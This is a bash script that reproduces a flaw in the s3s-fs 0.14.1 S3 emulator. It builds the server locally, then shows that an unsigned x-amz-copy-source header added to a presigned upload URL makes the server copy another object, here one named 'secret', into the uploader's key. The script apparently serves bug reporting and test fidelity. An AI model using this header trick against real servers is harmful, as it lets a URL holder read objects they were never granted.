#!/usr/bin/env bash
# Tools:     s3s 0.14.1, in the server of s3s-fs 0.14.1; boto3 1.44.8 signs.
# Behaviour: a URL is signed for the upload of one object. Whoever has it adds the header x-amz-copy-source, which was not signed, and
#            the server copies another object of the bucket there: 200. A URL that was signed to read the first object then shows
#            the other one. Any other x-amz header passes in the same way.
# A guess:   the server refuses it, as S3 does: "There were headers present in the request which were not signed" (403).
# Matters:   a stand-in for S3 that verifies signatures lets pass what S3 refuses, so a test against it proves too little: a client
#            that sends metadata or tags with an upload works here, and fails on AWS. infra/local refuses it in front of s3s.
set -euo pipefail

dir=$(mktemp -d)
server=
trap '[ -z "$server" ] || kill "$server"; rm -rf "$dir"' EXIT
cd "$dir"
python3 -m venv venv
venv/bin/pip install --quiet --disable-pip-version-check boto3==1.44.8
CARGO_TARGET_DIR=$dir/target cargo install --quiet --debug --jobs 1 --root "$dir" --features binary s3s-fs@=0.14.1

port=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
mkdir -p data/bucket
bin/s3s-fs --host 127.0.0.1 --port "$port" --access-key probe --secret-key probe data >/dev/null 2>&1 &
server=$!

cat >probe.py <<'PY'
import sys, time, urllib.error, urllib.request

import boto3
from botocore.exceptions import EndpointConnectionError

url = f"http://127.0.0.1:{sys.argv[1]}"
s3 = boto3.client("s3", endpoint_url=url, aws_access_key_id="probe", aws_secret_access_key="probe", region_name="us-east-1")
for _ in range(100):
    try:
        s3.put_object(Bucket="bucket", Key="secret", Body=b"of somebody else")
        break
    except EndpointConnectionError:
        time.sleep(0.1)

upload = s3.generate_presigned_url("put_object", Params={"Bucket": "bucket", "Key": "mine"})
download = s3.generate_presigned_url("get_object", Params={"Bucket": "bucket", "Key": "mine"})


def send(method, to, headers):
    request = urllib.request.Request(to, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as refusal:
        return refusal.code, refusal.read()


copied, _ = send("PUT", upload, {"x-amz-copy-source": "/bucket/secret"})
read, content = send("GET", download, {})
print(f"the upload's URL with an unsigned x-amz-copy-source: {copied}")
print(f"what the object is then: {read} {content.decode(errors='replace')}")
sys.exit(0 if (copied, content) == (200, b"of somebody else") else "CHANGED: not what was found before")
PY
venv/bin/python probe.py "$port"
